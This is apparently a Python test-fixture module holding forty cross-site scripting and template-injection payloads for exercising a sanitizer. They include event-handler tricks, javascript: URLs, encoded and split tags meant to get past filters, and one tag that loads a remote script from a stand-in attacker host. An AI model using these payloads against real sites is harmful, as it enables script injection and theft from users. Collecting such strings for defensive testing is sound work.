"""Forty ways to smuggle a script into words."""

PAYLOADS = (
    "<script>attack(1)</script>", "<img src=x onerror=attack(2)>", "<svg onload=attack(3)>", "\"><script>attack(4)</script>",
    "'><img src=x onerror=attack(5)>", "</textarea><script>attack(6)</script>", "</title><script>attack(7)</script>",
    "</script><script>attack(8)</script>", "javascript:attack(9)", "<a href=javascript:attack(10)>x</a>",
    "<iframe srcdoc='<script>parent.attack(11)</script>'></iframe>", "<body onload=attack(12)>", "<input autofocus onfocus=attack(13)>",
    "<details open ontoggle=attack(14)>", "<video><source onerror=attack(15)></video>", "<math><mtext></mtext><script>attack(16)</script></math>",
    "<style>@import 'javascript:attack(17)'</style>", "<link rel=stylesheet href=javascript:attack(18)>", "<base href=javascript:attack(19)//>",
    "<meta http-equiv=refresh content='0;url=javascript:attack(20)'>", "<object data=javascript:attack(21)></object>", "<embed src=javascript:attack(22)>",
    "<form action=javascript:attack(23)><button>x</button></form>", "<button formaction=javascript:attack(24)>x</button>",
    "{{ attack(25) }}", "${attack(26)}", "{% print(attack(27)) %}", "#{attack(28)}", "<%= attack(29) %>", "\\u003cscript\\u003eattack(30)\\u003c/script\\u003e",
    "&lt;script&gt;attack(31)&lt;/script&gt;", "&#60;script&#62;attack(32)&#60;/script&#62;", "<scr<script>ipt>attack(33)</scr</script>ipt>",
    "<SCRIPT SRC=//attack.example/34></SCRIPT>", "<img src=x:x onerror=\"attack(35)\"//", "<p style=\"background:url(javascript:attack(36))\">x</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=attack(37)>\">", "--><!--<img src=x onerror=attack(38)>", "data:text/html,<script>attack(39)</script>",
    "`-attack(40)-`",
)  # fmt: skip
